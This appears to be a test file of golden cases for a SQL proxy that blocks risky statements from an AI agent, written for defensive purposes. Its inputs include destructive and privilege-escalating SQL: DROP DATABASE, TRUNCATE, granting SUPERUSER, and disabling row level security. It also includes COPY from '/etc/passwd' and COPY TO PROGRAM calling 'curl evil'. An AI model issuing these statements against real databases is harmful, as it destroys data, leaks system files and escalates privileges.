// Golden cases for every statement kind the proxy refuses, each named in the message as the agent wrote it.
import { runGolden, type Golden } from './golden';

const refused = (sql: string, message: string): Golden => ({ sql, err: 'statement_not_allowed', message: `${message} is not allowed` });

const cases: Golden[] = [
  // Bulk and procedural.
  refused('COPY orders TO STDOUT', 'COPY'),
  refused("COPY orders FROM '/etc/passwd'", 'COPY'),
  refused('COPY (SELECT * FROM orders) TO PROGRAM \'curl evil\'', 'COPY'),
  refused('DO $$ BEGIN PERFORM 1; END $$', 'DO'),
  refused('CALL refresh_everything()', 'CALL'),
  // SQL-level prepared statements: what PREPARE'd bodies and EXECUTE arguments may not be.
  refused('EXPLAIN EXECUTE p', 'EXPLAIN EXECUTE'),
  refused('CREATE TABLE t AS EXECUTE p', 'CREATE TABLE AS'),
  { sql: 'EXECUTE p ((SELECT 1))', err: 'statement_not_allowed', message: 'argument 1 of EXECUTE p is not a constant' },
  { sql: 'EXECUTE p (1, upper($1))', err: 'statement_not_allowed', message: 'argument 2 of EXECUTE p is not a constant' },
  { sql: "EXECUTE p ('orders'::regclass)", err: 'function_not_allowed', message: 'cast to regclass' },
  { sql: 'PREPARE p AS SELECT pg_sleep(1)', err: 'function_not_allowed', message: 'pg_sleep' },
  { sql: 'PREPARE p AS DELETE FROM orders', err: 'model_writes_disabled', message: 'DELETE on orders' },
  { sql: 'PREPARE p AS SELECT 1 FOR UPDATE', err: 'statement_not_allowed', message: 'FOR UPDATE' },
  { sql: 'PREPARE p (regclass) AS SELECT $1', err: 'function_not_allowed', message: 'cast to regclass' },
  // Without a catalog no declared type can be checked: refused (fail closed).
  { sql: 'PREPARE p (int) AS SELECT $1', err: 'type_not_allowed', message: 'parameter type "int4"' },
  // Notifications, locks, maintenance, server state.
  refused('LISTEN orders_changed', 'LISTEN'),
  refused("NOTIFY orders_changed, 'x'", 'NOTIFY'),
  refused('LOCK TABLE orders IN ACCESS EXCLUSIVE MODE', 'LOCK'),
  refused('VACUUM FULL orders', 'VACUUM'),
  refused('ANALYZE orders', 'ANALYZE'),
  refused('CLUSTER orders USING orders_pkey', 'CLUSTER'),
  refused('REINDEX TABLE orders', 'REINDEX'),
  refused('CHECKPOINT', 'CHECKPOINT'),
  refused("LOAD 'auto_explain'", 'LOAD'),
  refused('SET CONSTRAINTS ALL DEFERRED', 'SET CONSTRAINTS'),
  refused("ALTER SYSTEM SET work_mem = '1GB'", 'ALTER SYSTEM'),
  // DDL, permissions, metadata.
  refused('DROP TABLE orders', 'DROP TABLE'),
  refused('DROP VIEW IF EXISTS v CASCADE', 'DROP VIEW'),
  refused('DROP MATERIALIZED VIEW mv', 'DROP MATERIALIZED VIEW'),
  refused('DROP SCHEMA public CASCADE', 'DROP SCHEMA'),
  refused('DROP DATABASE app', 'DROP DATABASE'),
  refused('DROP ROLE agent', 'DROP ROLE'),
  refused('CREATE TABLE t (id int)', 'CREATE TABLE'),
  refused('CREATE TEMP TABLE t AS SELECT 1', 'CREATE TABLE AS'),
  refused('CREATE MATERIALIZED VIEW mv AS SELECT 1', 'CREATE MATERIALIZED VIEW'),
  refused('CREATE VIEW v AS SELECT * FROM orders', 'CREATE VIEW'),
  refused('CREATE INDEX ON orders (total)', 'CREATE INDEX'),
  refused('CREATE SCHEMA evil', 'CREATE SCHEMA'),
  refused('CREATE EXTENSION dblink', 'CREATE EXTENSION'),
  refused("CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql", 'CREATE FUNCTION'),
  refused("CREATE PROCEDURE p() AS 'select 1' LANGUAGE sql", 'CREATE PROCEDURE'),
  refused('CREATE TRIGGER t AFTER INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()', 'CREATE TRIGGER'),
  refused('CREATE SEQUENCE s', 'CREATE SEQUENCE'),
  refused("CREATE ROLE admin SUPERUSER LOGIN PASSWORD 'x'", 'CREATE ROLE'),
  refused('ALTER ROLE agent SUPERUSER', 'ALTER ROLE'),
  refused('ALTER ROLE agent SET search_path = evil', 'ALTER ROLE'),
  refused('ALTER DATABASE app SET statement_timeout = 0', 'ALTER DATABASE'),
  refused('ALTER TABLE orders ADD COLUMN x int', 'ALTER TABLE'),
  refused('ALTER TABLE orders DISABLE ROW LEVEL SECURITY', 'ALTER TABLE'),
  refused('ALTER TABLE orders RENAME TO old_orders', 'ALTER TABLE RENAME'),
  refused('ALTER TABLE orders OWNER TO agent', 'ALTER TABLE'),
  refused('CREATE POLICY p ON orders USING (true)', 'CREATE POLICY'),
  refused('GRANT SELECT ON orders TO PUBLIC', 'GRANT'),
  refused('REVOKE ALL ON orders FROM agent', 'REVOKE'),
  refused('GRANT admin TO agent', 'GRANT'),
  refused('ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO agent', 'ALTER DEFAULT PRIVILEGES'),
  refused('TRUNCATE orders', 'TRUNCATE'),
  refused("COMMENT ON TABLE orders IS 'x'", 'COMMENT ON TABLE'),
  refused("SECURITY LABEL ON TABLE orders IS 'x'", 'SECURITY LABEL'),
  refused('IMPORT FOREIGN SCHEMA s FROM SERVER srv INTO public', 'IMPORT FOREIGN SCHEMA'),
  refused('REFRESH MATERIALIZED VIEW mv', 'REFRESH MATERIALIZED VIEW'),
  refused('CREATE SERVER srv FOREIGN DATA WRAPPER postgres_fdw', 'CREATE SERVER'),
  refused('REASSIGN OWNED BY agent TO postgres', 'REASSIGN OWNED'),
  refused('CREATE TYPE mood AS ENUM (\'sad\', \'ok\')', 'CREATE TYPE'),
];

runGolden(cases);

// What drivers and pools send to tidy a session: understood and forwarded, never refused for being unfamiliar.
runGolden([
  { sql: 'DEALLOCATE ALL', out: 'DEALLOCATE ALL', kinds: ['session'] },
  { sql: 'DEALLOCATE PREPARE s1', out: 'DEALLOCATE s1', kinds: ['session'] },
  { sql: 'CLOSE c', out: 'CLOSE c', kinds: ['session'] },
  { sql: 'CLOSE ALL', out: 'CLOSE ALL', kinds: ['session'] },
  { sql: 'UNLISTEN *', out: 'UNLISTEN *', kinds: ['session'] },
  { sql: 'DISCARD ALL', out: 'DISCARD ALL', kinds: ['session'] },
  { sql: 'PREPARE p AS SELECT 1', out: 'PREPARE p AS SELECT 1', kinds: ['session'] },
  { sql: "EXECUTE p (1, -2.5, 'a'::text, NULL, $1)", out: "EXECUTE p (1, -2.5, 'a'::text, NULL, $1)", kinds: ['session'] },
  { sql: 'EXECUTE p', out: 'EXECUTE p', kinds: ['session'] },
]);
